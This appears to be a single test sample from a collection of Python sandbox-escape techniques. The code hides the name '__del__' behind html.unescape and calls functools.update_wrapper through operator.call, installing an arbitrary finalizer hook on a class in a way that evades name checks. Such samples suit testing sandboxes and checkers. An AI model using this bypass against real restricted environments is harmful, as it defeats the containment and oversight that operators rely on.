# family: class
# Escape: update_wrapper(Target, src, assigned=(name,)) does setattr(Target, name, getattr(src, name)); called
# through operator.call the names are never checked, so Target gains a __del__ finalizer (name from
# html.unescape) taken from a SimpleNamespace built with **{name: hook}.
import functools
import html
import operator
import types


class Target:
    pass


def tool(hook) -> str:
    name = html.unescape("&#x5f;&#x5f;del&#x5f;&#x5f;")
    operator.call(functools.update_wrapper, Target, types.SimpleNamespace(**{name: hook}), (name,), ())
    return repr(Target())
